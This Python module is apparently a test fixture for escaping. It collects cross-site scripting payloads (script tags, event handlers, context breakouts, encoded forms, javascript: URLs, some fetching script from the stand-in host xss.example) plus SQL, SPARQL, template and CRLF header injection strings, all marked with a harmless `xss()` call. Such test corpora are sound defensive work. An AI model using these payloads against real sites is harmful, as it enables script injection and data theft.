"""Texts that become something else where text is not kept as text: markup, code, links, another query.

Whatever runs calls `xss()`, whatever becomes an element or an attribute carries `data-xss`: one look at a page tells.
"""

from __future__ import annotations

_CALL = "xss()"
_MARK = "data-xss=1"

MARKUP = (
    f"<script {_MARK}>{_CALL}</script>",
    f"<ScRiPt {_MARK}>{_CALL}</sCrIpT>",
    f"<script {_MARK} src=//xss.example/x.js></script>",
    f"<script {_MARK} type=module>import('//xss.example')</script>",
    f"<img {_MARK} src=x onerror={_CALL}>",
    f"<IMG {_MARK} SRC=x OnErRoR=&#120;ss()>",
    f"<img/{_MARK}/src='x'/onerror={_CALL}//",
    f"<svg {_MARK} onload={_CALL}>",
    f"<svg {_MARK}><script>{_CALL}</script></svg>",
    f"<svg {_MARK}><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    f"<svg {_MARK}><use href='data:image/svg+xml,<svg id=x onload={_CALL}>#x'></svg>",
    f"<svg><style><img {_MARK} src=x onerror={_CALL}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img {_MARK} title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>",
    f"<noscript><p title='</noscript><img {_MARK} src=x onerror={_CALL}>'>",
    f"<iframe {_MARK} srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe {_MARK} src=javascript:parent.{_CALL}></iframe>",
    f"<object {_MARK} data=javascript:{_CALL}></object>",
    f"<embed {_MARK} src=javascript:{_CALL}>",
    f"<body {_MARK} onload={_CALL}>",
    f"<details {_MARK} open ontoggle={_CALL}>",
    f"<video {_MARK}><source onerror={_CALL}></video>",
    f"<input {_MARK} autofocus onfocus={_CALL}>",
    f"<marquee {_MARK} onstart={_CALL}>",
    f"<a {_MARK} href=javascript:{_CALL}>x</a>",
    f"<form {_MARK} action=javascript:{_CALL}><button autofocus>x</button></form>",
    f"<button {_MARK} formaction=javascript:{_CALL} popovertarget=menu>x</button>",
    f"<base {_MARK} href=//xss.example/>",
    f"<meta {_MARK} http-equiv=refresh content='0;url=//xss.example/'>",
    f"<link {_MARK} rel=stylesheet href=//xss.example/x.css>",
    f"<style {_MARK}>*{{display:none}}</style>",
    f"<template {_MARK} shadowrootmode=open><script>{_CALL}</script></template>",
    f"<x-xss {_MARK} style=position:fixed;inset:0 onpointerover={_CALL}>",
    f'<p {_MARK} id=words>{{"script_failed": "{_CALL}"}}</p>',
)
BREAKOUTS = (
    f'"><img {_MARK} src=x onerror={_CALL}>',
    f"'><img {_MARK} src=x onerror={_CALL}>",
    f'" {_MARK} onmouseover="{_CALL}" onfocus="{_CALL}" autofocus x="',
    f"' {_MARK} onmouseover='{_CALL}' style='position:fixed;inset:0' x='",
    f"` {_MARK} onmouseover={_CALL} x=`",
    f"x {_MARK} onmouseover={_CALL} ",
    f"</title><script {_MARK}>{_CALL}</script>",
    f"</textarea><img {_MARK} src=x onerror={_CALL}>",
    f"</script><script {_MARK}>{_CALL}</script>",
    f'"}}</script><script {_MARK}>{_CALL}</script>',
    f"</style><img {_MARK} src=x onerror={_CALL}>",
    f"</code></pre></main><h1 {_MARK}>x</h1>",
    f"</option></select><img {_MARK} src=x onerror={_CALL}>",
    f"</text></svg><img {_MARK} src=x onerror={_CALL}>",
    f"--><img {_MARK} src=x onerror={_CALL}><!--",
    f"]]><img {_MARK} src=x onerror={_CALL}>",
    f"<!--><img {_MARK} src=x onerror={_CALL}>-->",
    f"';{_CALL};//",
    f'\\";{_CALL};//',
    f"${{{_CALL}}}`;{_CALL}",
    f"\u2028{_CALL}\u2029{_CALL}",
    f"}}*{{background:url(//xss.example/x)}}{_CALL}",
)
DECODED = (
    f"&lt;img {_MARK} src=x onerror={_CALL}&gt;",
    f"&#60;img {_MARK} src=x onerror={_CALL}&#62;",
    f"%3Cimg {_MARK} src=x onerror={_CALL}%3E",
    f"%253Cimg {_MARK} src=x onerror={_CALL}%253E",
    f"\\u003cimg {_MARK} src=x onerror={_CALL}\\u003e",
    f"\\x3cimg {_MARK} src=x onerror={_CALL}\\x3e",
    f"+ADw-img {_MARK} src=x onerror={_CALL}+AD4-",
    f"\uff1cimg {_MARK} src=x onerror={_CALL}\uff1e",
)
ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}//https://",
    f"data:text/html,<script {_MARK}>{_CALL}</script>",
    f"vbscript:{_CALL}",
    "//xss.example/x",
    "/\\xss.example/x",
    "https://xss.example@xss.example/x",
)
ELSEWHERE = (
    "{{ 7*191 }}{% raw %}",
    "{0}{who}{n!r}%(n)s%s",
    "__proto__",
    "constructor",
    "\u202etxt.xss\u202c \u200b",
    "> } . ?s ?p ?o } #",
    '"} UNION { ?s ?p ?o } #',
    "' OR '1'='1' --",
    "\x00",
    "a\r\nSet-Cookie: xss=1\r\n\r\n<script>xss()</script>",
)

PAYLOADS = (*MARKUP, *BREAKOUTS, *DECODED, *ADDRESSES, *ELSEWHERE)
# What a literal of a graph may hold.
IN_TEXTS = tuple(each for each in PAYLOADS if "\x00" not in each)
